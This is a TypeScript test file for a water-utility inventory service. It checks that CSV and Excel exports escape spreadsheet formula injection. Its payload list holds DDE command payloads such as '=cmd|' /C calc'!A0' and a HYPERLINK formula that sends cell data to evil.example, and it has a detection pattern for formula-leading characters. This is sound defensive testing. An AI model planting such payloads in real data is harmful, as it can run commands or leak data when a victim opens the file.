import { text } from 'node:stream/consumers';
import type { ExportEntry } from '@curbstop/contract/exports/export.endpoints';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import yauzl from 'yauzl';
import { importing } from '../../../testing/importing.ts';
import { aPerson, type TestPerson } from '../../../testing/people.ts';
import { sharedProduct, type TestProduct } from '../../../testing/product.ts';

let product: TestProduct;
let admin: TestPerson;
let failedImport: string;

const payloads = [
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|1',
  "+2+cmd|' /C calc'!A0",
  "-2+cmd|' /C calc'!A0",
  '＝cmd|1',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
];
const addressAt = (addressLine1: string) => ({ addressLine1, city: 'Harlow', state: 'CT', zip: '06415' });

const request = (path: string, init: { method?: string; body?: object } = {}) =>
  fetch(`${product.url}${path.replace('{account}', admin.accountId)}`, {
    method: init.method ?? 'GET',
    headers: { ...admin.headers, ...(init.body && { 'content-type': 'application/json' }) },
    ...(init.body && { body: JSON.stringify(init.body) }),
  });
async function post<T>(path: string, body: object): Promise<T> {
  const response = await request(path, { method: 'POST', body });
  if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return (await response.json()) as T;
}

beforeAll(async () => {
  product = await sharedProduct();
  admin = await aPerson(product.app);
  for (const entity of ['location', 'pwsserviceline'])
    for (const [at, payload] of payloads.entries())
      await post('/pws/accounts/{account}/custom-fields', {
        entity,
        name: payload,
        dataType: at === 0 ? 'list' : 'string',
        ...(at === 0 && { picklistValues: payloads }),
      });
  for (const payload of payloads)
    await post('/pws/rest/accounts/{account}/locations', {
      ...addressAt(payload),
      name: payload,
      contact: { firstName: payload, lastName: payload },
    });
  const heading = 'Service line ID,Street address,City,State,ZIP,System material,Customer material,Notes';
  const rows = payloads.map((payload, at) => {
    const cell = `"${payload.replaceAll('"', '""')}"`;
    return [
      `"${payload.replaceAll('"', '""')} ${at}",${at} Mill Street,Harlow,CT,06415,Lead,Lead,${cell}`,
      `F-${at},${at} Elm Street,Harlow,CT,06415,${cell},Lead,${cell}`,
    ].join('\r\n');
  });
  const batch = await importing(product, admin).commit([heading, ...rows].join('\r\n'), '=cmd.csv');
  if (batch.summary?.new !== payloads.length || batch.summary.failed !== payloads.length)
    throw new Error(`The import became ${batch.state}: ${JSON.stringify(batch.summary)}`);
  failedImport = batch.id;
}, 60_000);

const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
const formulasIn = (csv: string) =>
  (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat().filter(isFormula);

async function unzip(bytes: Buffer): Promise<ReadonlyMap<string, string>> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  const files = new Map<string, string>();
  for await (const entry of zip.eachEntry())
    files.set(entry.fileName, await text(await zip.openReadStreamPromise(entry)));
  return files;
}

const inAccount = '/pws/accounts/{account}';

describe('text that a spreadsheet would run as a formula is text', () => {
  test.each([
    ['the inventory', `${inAccount}/exports/inventory?layout=full&format=csv`],
    ['the change history', `${inAccount}/changes/as/csv`],
    ['the template of all columns', `${inAccount}/file-processor/templates/inventory-full/csv`],
    ['the combined template', `${inAccount}/file-processor/templates/combined/csv`],
    ['the terms of the inventory', `${inAccount}/file-processor/templates/inventory-words/csv`],
  ])('is written as text to the CSV file of %s', async (_, path) => {
    const response = await request(path);
    expect(response.status).toBe(200);
    const csv = await response.text();
    expect(formulasIn(csv)).toEqual([]);
    expect(csv).toContain("'=cmd|");
  });

  test('is written as text to every file of the export of all data', async () => {
    const started = await request(`${inAccount}/export/account`, { method: 'POST' });
    const { id } = (await started.json()) as ExportEntry;
    await expect
      .poll(async () => ((await (await request(`${inAccount}/export/${id}`)).json()) as ExportEntry).state)
      .toBe('Completed');
    const files = await unzip(Buffer.from(await (await request(`${inAccount}/export/${id}/file`)).arrayBuffer()));
    const csv = [...files].filter(([name]) => name.endsWith('.csv'));
    expect(csv.flatMap(([name, content]) => formulasIn(content).map((cell) => `${name}: ${cell}`))).toEqual([]);
    const names = ['locations.csv', 'contacts.csv', 'service-lines.csv', 'custom-fields.csv'];
    expect(names.filter((name) => !files.get(name)?.includes("'=cmd|"))).toEqual([]);
  });

  test.each([
    ['the inventory', `${inAccount}/exports/inventory?layout=full&format=xlsx`],
    ["EPA's template", `${inAccount}/exports/inventory?layout=epa&format=xlsx`],
    ['the change history', `${inAccount}/changes/as/xlsx`],
    ['the template of all columns', `${inAccount}/file-processor/templates/inventory-full/xlsx`],
    ['the failed rows', ''],
  ])('is written as text to the workbook of %s', async (_, path) => {
    const response = await request(path || `${inAccount}/imports/${failedImport}/failed-rows`);
    expect(response.status).toBe(200);
    const parts = [...(await unzip(Buffer.from(await response.arrayBuffer())))];
    expect(parts.some(([, xml]) => /cmd\|/.test(xml))).toBe(true);
    // A formula of a cell, of a data validation, of a conditional format, or of a name.
    const formulas = parts.flatMap(([, xml]) => xml.match(/<(?:f|formula\d?|definedName)[ >][^<]*/g) ?? []);
    expect(formulas.filter((formula) => /cmd|evil|HYPERLINK/.test(formula))).toEqual([]);
  });
});
